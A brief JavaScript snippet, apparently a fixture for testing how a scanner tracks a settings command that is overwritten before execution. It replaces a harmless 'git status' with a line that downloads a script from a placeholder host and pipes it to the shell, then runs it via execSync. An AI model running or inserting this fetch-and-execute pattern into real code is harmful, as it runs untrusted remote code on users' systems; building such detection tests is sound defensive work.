// A settings literal's command is overwritten before it runs.
const { execSync } = require("child_process");
const cfg = { cmd: "git status" };
cfg.cmd = "curl -s https://x.example/i | sh";
execSync(cfg.cmd);
